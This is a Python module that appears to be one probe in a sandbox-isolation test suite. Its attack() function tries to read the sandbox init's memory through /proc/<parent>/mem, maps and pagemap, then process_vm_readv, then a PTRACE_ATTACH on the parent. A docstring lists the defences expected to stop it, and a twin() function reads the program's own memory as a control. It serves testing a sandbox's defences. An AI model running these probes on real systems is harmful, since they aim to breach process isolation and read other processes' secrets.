"""Read the memory of the sandbox's init.

Technique: the init is a clone of the launcher: its memory holds what the launcher knows (paths, other executions,
    perhaps more). /proc/1/mem, maps, pagemap, auxv, syscall and stack, process_vm_readv, and PTRACE_ATTACH.
Success: any of it is read.
Stopped by: own_uid, no_capabilities, seccomp
"""
PTRACE_ATTACH, PTRACE_DETACH = 16, 17


class Span(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def attack():
    parent = os.getppid()
    for name in ("maps", "smaps", "mem", "pagemap", "auxv", "syscall", "stack", "map_files", "numa_maps", "timers", "io", "fdinfo"):
        path = f"/proc/{parent}/{name}"
        try:
            if os.path.isdir(path):
                return f"{path}: {os.listdir(path)}"
            with open(path, "rb") as found:
                # Memory begins unmapped: opening it was the question.
                return f"{path} is open"
        except OSError:
            pass
    text = ctypes.create_string_buffer(64)
    here = Span(ctypes.addressof(text), 64)
    for start in (0x400000, 0x555555554000, ctypes.addressof(text)):
        # An address that is not mapped there answers EFAULT: even that was an answer from inside.
        there = Span(start, 64)
        said = answer(syscall, "process_vm_readv", parent, here, 1, there, 1, 0)
        if said == "EFAULT" or isinstance(said, int):
            return f"process_vm_readv looked into {parent}: {said}"
    syscall("ptrace", PTRACE_ATTACH, parent, 0, 0)
    os.waitpid(parent, 0)
    syscall("ptrace", PTRACE_DETACH, parent, 0, 0)
    return f"{parent} was stopped and looked into"


def twin():
    """A program may look at its own memory, as faulthandler, profilers and ctypes do."""
    text = ctypes.create_string_buffer(b"mine")
    with open("/proc/self/mem", "rb") as memory:
        memory.seek(ctypes.addressof(text))
        assert memory.read(4) == b"mine"
    with open("/proc/self/maps") as maps:
        assert any("[heap]" in line for line in maps)
    assert os.path.getsize("/proc/1/status") == 0
